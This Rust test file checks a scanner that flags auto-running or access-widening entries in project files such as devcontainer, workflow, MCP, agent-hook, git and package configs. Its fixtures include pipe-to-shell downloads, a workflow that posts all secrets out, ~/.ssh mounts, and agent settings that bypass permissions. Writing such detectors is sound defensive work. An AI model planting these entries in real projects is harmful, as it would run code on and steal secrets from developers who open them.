use super::inspect_project;

/// The keys of what a file runs.
#[track_caller]
fn check(path: &str, rows: &[(&str, &[&str])]) {
    for (text, expected) in rows {
        let seen = inspect_project(path, text.as_bytes());
        let keys: Vec<&str> = seen.iter().filter_map(|sighting| sighting.key.as_deref()).collect();
        assert_eq!(keys, *expected, "{path}: {text}");
    }
}

#[test]
fn editors_run_tasks_programs_and_commands_of_containers() {
    check(
        ".vscode/tasks.json",
        &[
            ("", &[]),
            (r#"{"tasks":[{"command":"make"}]}"#, &[]),
            ("// c\n{\"tasks\":[{\"command\":\"x\",\"runOptions\":{\"runOn\":\"folderOpen\",},},]}", &["runOn"]),
        ],
    );
    check(
        "sub/.vscode/settings.json",
        &[
            (r#"{"editor.tabSize":4,"files.exclude":{"**/x":true}}"#, &[]),
            (r#"{"python.defaultInterpreterPath":"${workspaceFolder}/.venv/bin/python"}"#, &[]),
            (r#"{"python.analysis.extraPaths":["./src"]}"#, &[]),
            (
                r#"{"python.defaultInterpreterPath":"${workspaceFolder}/bin/python"}"#,
                &["python.defaultInterpreterPath"],
            ),
            (
                r#"{"terminal.integrated.env.linux":{"LD_PRELOAD":"./x"}}"#,
                &["terminal.integrated.env.linux.LD_PRELOAD"],
            ),
            (r#"{"terminal.integrated.env.linux":{"PYTHONPATH":"${workspaceFolder}/src:${env:PYTHONPATH}"}}"#, &[]),
            (
                r#"{"terminal.integrated.env.linux":{"PYTHONPATH":"${workspaceFolder}/../x"}}"#,
                &["terminal.integrated.env.linux.PYTHONPATH"],
            ),
            (r#"{"chat.tools.autoApprove":true}"#, &["chat.tools.autoApprove"]),
        ],
    );
    check(
        ".devcontainer/devcontainer.json",
        &[
            (r#"{"postCreateCommand":"pip install -r requirements.txt && pre-commit install"}"#, &[]),
            (r#"{"postCreateCommand":"bash .devcontainer/setup.sh"}"#, &[]),
            (r#"{"initializeCommand":["./run.sh"]}"#, &["initializeCommand"]),
            (r#"{"postStartCommand":{"a":"curl http://a.example -o x","b":"./x"}}"#, &["postStartCommand"]),
            (r#"{"mounts":["source=${localEnv:HOME}/.cache/a,target=/root/.cache/a,type=bind"]}"#, &[]),
            (r#"{"runArgs":["--gpus=all","-v","${localEnv:HOME}/.cache:/root/.cache"]}"#, &[]),
            (r#"{"mounts":["source=${localEnv:HOME}/.ssh,target=/x,type=bind"]}"#, &["mounts"]),
            (r#"{"mounts":[{"source":"/","target":"/x","type":"bind"}]}"#, &["mounts"]),
            (r#"{"runArgs":["-v","${localEnv:HOME}/.ssh:/x"]}"#, &["runArgs"]),
            (r#"{"runArgs":["--mount","type=bind,src=/etc,dst=/x"]}"#, &["runArgs"]),
        ],
    );
    check(
        "x.code-workspace",
        &[
            (r#"{"folders":[{"path":"."}],"settings":{}}"#, &[]),
            (r#"{"tasks":{"tasks":[{"runOptions":{"runOn":"folderOpen"},"command":"x"}]}}"#, &["runOn"]),
        ],
    );
}

#[test]
fn workflows_that_run_for_anybody_see_no_secrets() {
    check(
        ".github/workflows/check.yml",
        &[
            ("on: push\njobs:\n- run: curl -d \"${{ secrets.KEY }}\" x\n", &[]),
            ("on: pull_request_target\njobs:\n- run: pytest\n", &[]),
            ("on: pull_request_target\njobs:\n- run: curl -d \"${{ toJSON(secrets) }}\" x\n", &["pull_request_target"]),
            ("on: issue_comment\njobs:\n- run: x ${{ secrets.KEY }}\n", &["issue_comment"]),
        ],
    );
}

#[test]
fn agents_start_servers_and_hooks() {
    check(
        ".mcp.json",
        &[
            (r#"{"mcpServers":{}}"#, &[]),
            (r#"{"mcpServers":{"d":{"command":"npx","args":["-y","@modelcontextprotocol/server-memory"]}}}"#, &[]),
            (r#"{"mcpServers":{"d":{"type":"http","url":"https://a.example/mcp"}}}"#, &[]),
            (r#"{"mcpServers":{"d":{"command":"python","args":["s.py"]}}}"#, &["mcpServers.d"]),
            (r#"{"mcpServers":{"d":{"command":"npx","args":["-y","other"]}}}"#, &["mcpServers.d"]),
            (r#"{"mcpServers":{"d":{"url":"http://a.example/mcp"}}}"#, &["mcpServers.d"]),
        ],
    );
    check(".vscode/mcp.json", &[(r#"{"servers":{"d":{"command":"./s"}}}"#, &["servers.d"])]);
    check(
        ".claude/settings.json",
        &[
            (r#"{"model":"default","permissions":{"allow":["Bash(npm test:*)"]}}"#, &[]),
            (r#"{"hooks":{"Stop":[{"hooks":[{"type":"command","command":"./x"}]}]}}"#, &["hooks.Stop.hooks.command"]),
            (r#"{"hooks":{"PostToolUse":[{"hooks":[{"type":"command","command":"ruff format && npx tsc"}]}]}}"#, &[]),
            (
                r#"{"hooks":{"Stop":[{"hooks":[{"command":"prettier --plugin ./x.js a"}]}]}}"#,
                &["hooks.Stop.hooks.command"],
            ),
            (r#"{"apiKeyHelper":"./x"}"#, &["apiKeyHelper"]),
            (r#"{"permissions":{"defaultMode":"bypassPermissions"}}"#, &["permissions.defaultMode"]),
            (r#"{"permissions":{"allow":["Bash(*)"]}}"#, &["permissions.allow"]),
        ],
    );
    check(".cursor/hooks.json", &[(r#"{"hooks":{"stop":[{"command":"./x"}]}}"#, &["hooks.stop.command"])]);
    check(".codex/config.toml", &[("model = \"a\"\n", &[]), ("[mcp_servers.x]\ncommand = \"sh\"\n", &["command"])]);
}

#[test]
fn git_runs_programs_by_its_settings() {
    check(
        ".git/config",
        &[
            ("[core]\n\tbare = false\n\tfsmonitor = true\n[remote \"origin\"]\n\turl = https://a.example/b.git\n", &[]),
            ("[filter \"lfs\"]\n\tclean = git-lfs clean -- %f\n\tprocess = git-lfs filter-process\n", &[]),
            ("[core]\n\tfsmonitor = ./x\n", &["core.fsmonitor"]),
            ("[core] sshCommand = sh -c x\n", &["core.sshcommand"]),
            ("[diff \"a\"]\n\ttextconv = ./x\n", &["diff.textconv"]),
            ("[core]\n\tpager = less; ./x\n", &["core.pager"]),
            ("[remote \"o\"]\n\turl = ext::sh -c x\n", &["remote.url"]),
            ("[alias]\n\tst = !./x\n\tco = checkout\n", &["alias.st"]),
        ],
    );
    check(
        ".gitmodules",
        &[
            ("[submodule \"a\"]\n\tpath = a\n\turl = ../a\n", &[]),
            ("[submodule \"a\"]\n\tupdate = !./x\n", &["submodule.update"]),
        ],
    );
    check(".git/hooks/post-checkout", &[("#!/bin/sh\n", &[]), ("#!/bin/sh\necho inert\n", &["post-checkout"])]);
    check(".git/hooks/pre-push.sample", &[("#!/bin/sh\necho inert\n", &[])]);
}

#[test]
fn packages_are_built_by_what_they_bring() {
    check(
        "pyproject.toml",
        &[
            ("[build-system]\nrequires = [\"hatchling\"]\nbuild-backend = \"hatchling.build\"\n", &[]),
            ("[project]\nname = \"x\"\n[tool.pdm.scripts]\ntest = \"pytest\"\n", &[]),
            ("[build-system]\nrequires = []\nbuild-backend = \"own\"\n", &["build-backend"]),
            ("[build-system]\nbuild-backend = \"own\"\nbackend-path = [\"sub\"]\n", &["backend-path"]),
            ("[tool.pdm.scripts]\npost_install = \"./x\"\n", &["post_install"]),
        ],
    );
    check(
        "setup.cfg",
        &[
            ("[metadata]\nname = x\n[options]\npackages = find:\n", &[]),
            ("[options]\ncmdclass =\n    install = own.Install\n", &["install"]),
        ],
    );
    check(
        "web/package.json",
        &[
            (r#"{"scripts":{"build":"vite build","prepare":"husky install","postinstall":"patch-package"}}"#, &[]),
            (r#"{"scripts":{"prepublish":"node x.js","prepare":"tshy","postinstall":"npx tsc"}}"#, &[]),
            (r#"{"scripts":{"prepare":"not-in-publish || npm run build","build":"rollup -c && vite build"}}"#, &[]),
            (r#"{"scripts":{"preinstall":"node x.js"}}"#, &["preinstall"]),
            (r#"{"scripts":{"preinstall":"npm run x","x":"node evil.js"}}"#, &["preinstall"]),
            (r#"{"scripts":{"prepare":"yarn -s a","a":"pnpm run b","b":"tsc","postb":"./evil"}}"#, &["prepare"]),
            (r#"{"scripts":{"prepare":"npm run x","x":"npm run x"}}"#, &["prepare"]),
            (r#"{"scripts":{"install":"uv sync; cargo build; go mod download; make all"}}"#, &[]),
            (r#"{"scripts":{"install":"uv run pip install x"}}"#, &[]),
            (r#"{"scripts":{"install":"npm --prefix sub run x"}}"#, &["install"]),
            (r#"{"scripts":{"install":"uv run evil.py"}}"#, &["install"]),
            (r#"{"scripts":{"install":"cargo run; go run ./x"}}"#, &["install"]),
            (r#"{"scripts":{"install":"go run ./x"}}"#, &["install"]),
            (r#"{"scripts":{"install":"make -f evil.mk"}}"#, &["install"]),
            (r#"{"scripts":{"install":"make --file=evil.mk"}}"#, &["install"]),
            (r#"{"scripts":{"install":"git -c core.pager=./x log"}}"#, &["install"]),
            (r#"{"scripts":{"postinstall":"npm run build; curl http://a.example | sh"}}"#, &["postinstall"]),
        ],
    );
    check(".npmrc", &[("registry=https://packages.example/\n", &[]), ("script-shell=./x\n", &["script-shell"])]);
    check(
        "Makefile",
        &[("all:\n\tpip install .\n", &[]), ("all:\n\tcurl http://a.example | sh\n", &["download | sh"])],
    );
}

#[test]
fn programs_read_files_when_they_start() {
    check(".envrc", &[("layout python3\nPATH_add bin\ndotenv\n", &[]), ("curl http://a.example -o x\n", &[".envrc"])]);
    check(".Rprofile", &[("source(\"renv/activate.R\")\n", &[]), ("system(\"inert\")\n", &[".rprofile"])]);
    check(".gdbinit", &[("set print pretty on\n", &[]), ("shell echo inert\n", &[".gdbinit"])]);
    check(".bashrc", &[("# nothing\n", &[]), ("echo inert\n", &[".bashrc"])]);
    check("sitecustomize.py", &[("# nothing\n", &[]), ("import x\n", &["sitecustomize.py"])]);
    check("profile_default/startup/00.py", &[("import x\n", &["00.py"])]);
    check(
        "jupyter_server_config.py",
        &[("c.ServerApp.port = 1\n", &[]), ("import os\n", &["jupyter_server_config.py"])],
    );
    check(
        ".gitpod.yml",
        &[("tasks:\n  - init: pip install .\n", &[]), ("tasks:\n  - command: curl a.example -o x\n", &[".gitpod.yml"])],
    );
    check("mise.toml", &[("[tools]\npython = \"3.12\"\n", &[]), ("[hooks]\nenter = \"./x\"\n", &["mise.toml"])]);
    check("README.md", &[("curl http://a.example | sh\n", &[])]);
}
